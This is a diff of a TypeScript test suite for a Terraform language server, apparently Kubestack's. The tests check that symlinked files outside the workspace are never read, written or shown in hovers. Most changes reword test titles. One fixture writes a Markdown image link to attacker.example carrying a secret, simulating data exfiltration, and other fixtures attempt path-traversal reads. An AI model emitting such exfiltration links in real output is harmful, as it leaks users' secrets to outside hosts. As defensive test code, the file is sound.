@@ -39,7 +39,7 @@ describe('a file outside the workspace', () => {
     symlinkSync(folder.at(target), folder.at(`repository/${path}`));
   };
   const start = async (checks = false): Promise<void> => {
-    server = await LanguageServer.start({ folder: folder.at('repository'), capabilities, checks, timeout: 30_000 });
+    server = await LanguageServer.start({ folder: folder.at('repository'), capabilities, checks });
   };
   const diagnosticsOf = (path: string): Promise<string[]> =>
     pulledDiagnostics(server, folder.uri(`repository/${path}`));
@@ -73,7 +73,7 @@ describe('a file outside the workspace', () => {
     return JSON.stringify(said);
   };
 
-  it('behind .terraform/environment is not the name of the workspace: that is unknown, and the hover has nothing of it', async () => {
+  it('behind .terraform/environment is not the workspace name, which stays unknown and does not appear in hovers', async () => {
     folder.write('outside/token', `${secret}\r| ![](https://attacker.example/?${secret})\n`);
     link('.terraform/environment', 'outside/token');
     folder.write(
@@ -103,7 +103,7 @@ describe('a file outside the workspace', () => {
     ['secrets.auto.tfvars.json', JSON.stringify({ prefix: secret })],
     ['terraform.tfvars', `prefix = "${secret}"\n`],
   ] as const) {
-    it(`behind ${name} gives no variable its value, and neither does the default count`, async () => {
+    it(`behind ${name} sets no variable, and makes the variable's default unknown`, async () => {
       folder.write(`outside/${name}`, text);
       link(name, `outside/${name}`);
       folder.write(
@@ -118,7 +118,7 @@ describe('a file outside the workspace', () => {
     });
   }
 
-  it('behind a file of the module declares nothing, and what it might declare is not missing', async () => {
+  it('behind a file of the module declares nothing, and names that it may declare are not reported as missing', async () => {
     folder.write('outside/locals.tf', `locals {\n  prefix = "${secret}"\n}\n`);
     link('locals.tf', 'outside/locals.tf');
     folder.write('repository/main.tf', clusterText('name_prefix = local.prefix'));
@@ -134,7 +134,7 @@ describe('a file outside the workspace', () => {
   const called = (source: string, version = ''): string =>
     `${clusterText('name_prefix = "gc0"')}\nmodule "eks_gc0_eu-west-1_service_web" {\n  source = "${source}"\n  ${version}\n}\n`;
 
-  it('is no module by a source with `..`, nor by a source behind a link', async () => {
+  it('is not a module, by a source with `..` or behind a link', async () => {
     folder.write('outside/web/main.tf', outsideModule);
     link('modules', 'outside');
     for (const source of ['../outside/web', './modules/web']) {
@@ -148,7 +148,7 @@ describe('a file outside the workspace', () => {
     }
   });
 
-  it('is no installed copy of a module, whatever .terraform/modules/modules.json says', async () => {
+  it('is not an installed copy of a module, whatever .terraform/modules/modules.json contains', async () => {
     folder.write('outside/web/main.tf', outsideModule);
     const installed = (dir: string): string =>
       JSON.stringify({
@@ -178,7 +178,7 @@ describe('a file outside the workspace', () => {
     }
   });
 
-  it('is not read by file(), templatefile(), fileexists() and fileset(): their values are unknown', async () => {
+  it('is not read by file(), templatefile(), fileexists() and fileset(), whose results are unknown', async () => {
     folder.write('outside/token.txt', secret);
     folder.write(`outside/${secret}.txt`, '');
     folder.write('repository/texts/own.txt', 'own');
@@ -211,7 +211,7 @@ describe('a file outside the workspace', () => {
     assert.ok(!(await everythingAbout('main.tf')).includes(secret));
   });
 
-  it('behind README.md, the Dockerfile, the lock file or a pipeline says nothing, and the platform tells so', async () => {
+  it('behind README.md, the Dockerfile, the lock file or a pipeline is ignored and reported', async () => {
     folder.write('outside/text', `FROM kubestack/framework:${secret}\n| ${secret} |\nterraform plan\n`);
     const names = ['README.md', 'Dockerfile', '.terraform.lock.hcl', '.gitlab-ci.yml', '.github/workflows/main.yml'];
     for (const name of names) link(name, 'outside/text');
@@ -223,7 +223,7 @@ describe('a file outside the workspace', () => {
       assert.ok(found.includes(`KS516 ${name} can't be read: it is outside the workspace.`), name);
   });
 
-  it('behind a pipeline above the platform says nothing either', async () => {
+  it('behind a pipeline above the platform is ignored, too', async () => {
     folder.write('outside/text', `terraform plan ${secret}\n`);
     link('.github/workflows/main.yml', 'outside/text');
     folder.write('repository/live/platform/main.tf', clusterText('name_prefix = "gc0"'));
@@ -235,7 +235,7 @@ describe('a file outside the workspace', () => {
     );
   });
 
-  it('is logged with its name and the reason, once', async () => {
+  it('is logged once with its name and the reason', async () => {
     folder.write('outside/text', secret);
     link('README.md', 'outside/text');
     folder.write('repository/main.tf', clusterText('name_prefix = "gc0"'));
@@ -250,7 +250,7 @@ describe('a file outside the workspace', () => {
     );
   });
 
-  it('is not read when the client says that it has changed', async () => {
+  it('is not read when the client reports a change', async () => {
     folder.write('outside/cluster.tf', clusterText(`name_prefix = "${secret}"`, '', 'eks_gc1_eu-west-1'));
     folder.write('repository/main.tf', clusterText('name_prefix = "gc0"'));
     await start();
@@ -263,7 +263,7 @@ describe('a file outside the workspace', () => {
     assert.deepEqual(await pulledDiagnostics(server, folder.uri('outside/cluster.tf')), []);
   });
 
-  it('takes the place of one inside when a link changes, and its values are gone', async () => {
+  it("that replaces a file inside through a changed link removes that file's values", async () => {
     folder.write('outside/locals.tf', `locals {\n  prefix = "${secret}"\n}\n`);
     folder.write('repository/shared/locals.tf', 'locals {\n  prefix = "inside"\n}\n');
     link('locals.tf', 'repository/shared/locals.tf');
@@ -277,7 +277,7 @@ describe('a file outside the workspace', () => {
     assert.ok(!(await everythingAbout('main.tf')).includes(secret));
   });
 
-  it('takes the place of one inside while that is open: the editor’s text counts, the file never does', async () => {
+  it("that replaces an open file inside is never read; the editor's text is used", async () => {
     folder.write('outside/locals.tf', `locals {\n  prefix = "${secret}"\n}\n`);
     folder.write('repository/shared/locals.tf', 'locals {\n  prefix = "inside"\n}\n');
     link('locals.tf', 'repository/shared/locals.tf');
@@ -297,7 +297,7 @@ describe('a file outside the workspace', () => {
     assert.ok(!(await everythingAbout('main.tf')).includes(secret));
   });
 
-  it('is not written either: no edit leads through a link', async () => {
+  it('is not written: no edit leads through a link', async () => {
     folder.write('outside/README.txt', '');
     folder.write('repository/main.tf', clusterText('name_prefix = "gc0"'));
     // An editor that creates the workflow would create it where the link leads.
@@ -315,7 +315,7 @@ describe('a file outside the workspace', () => {
   });
 });
 
-describe('what the workspace has of its own', () => {
+describe('a file inside the workspace', () => {
   let folder: TemporaryFolder;
   let server: LanguageServer;
 
@@ -343,7 +343,7 @@ module "web" {
     folder.write(`${top}/modules/web/name.txt`, 'web');
   };
 
-  it('is read when the workspace folder was opened through a link, and links inside lead inside', async () => {
+  it('is read if the folder was opened through a link, and through links that lead inside', async () => {
     platform('real');
     symlinkSync('real', folder.at('opened'));
     symlinkSync('modules/web', folder.at('real/linked'));
@@ -353,7 +353,7 @@ module "web" {
     assert.equal(module?.address, 'module.eks_gc0_eu-west-1_service_web.module.web');
   });
 
-  it('is read also where the link that it was opened by leads somewhere else by now', async () => {
+  it('is read if the link through which the folder was opened has changed', async () => {
     platform('first');
     platform('second');
     folder.write('second/modules/web/name.txt', 'second');
@@ -369,13 +369,13 @@ module "web" {
     assert.equal(await namespaceOf(uri), 'second');
   });
 
-  it('is read in another folder of the same window, `..` or not', async () => {
+  it('is read in another folder of the same window, also by `..`', async () => {
     platform('top');
     server = await LanguageServer.start({ folders: [folder.at('top/platform'), folder.at('top/modules')] });
     assert.equal(await namespaceOf(folder.uri('top/modules/web/main.tf')), 'web');
   });
 
-  it('is the repository around it for a document that is opened alone, and nothing beyond', async () => {
+  it('is read in the repository around a document that is opened alone, and not beyond', async () => {
     platform('top');
     mkdirSync(folder.at('top/.git'));
     folder.write('token.txt', secret);
@@ -388,7 +388,7 @@ module "web" {
     assert.equal(values['apps name_prefix'], '<file("../../token.txt")>');
   });
 
-  it('is only its own folder for a document that is opened alone and is in no repository', async () => {
+  it('is read only in its own folder for a document that is opened alone outside of repositories', async () => {
     folder.write('alone/main.tf', clusterText('name_prefix = local.prefix\nbase_domain = file("../token.txt")'));
     folder.write('alone/locals.tf', 'locals {\n  prefix = "beside"\n}\n');
     folder.write('token.txt', secret);
@@ -400,7 +400,7 @@ module "web" {
     assert.equal(values['apps base_domain'], '<file("../token.txt")>');
   });
 
-  it('does not grow by a document that is opened through a link of the workspace', async () => {
+  it('does not include what surrounds a document that is opened through a link of the workspace', async () => {
     folder.write('outside/main.tf', '');
     folder.write('outside/token.txt', secret);
     folder.write('repository/main.tf', clusterText('name_prefix = file("linked/token.txt")'));
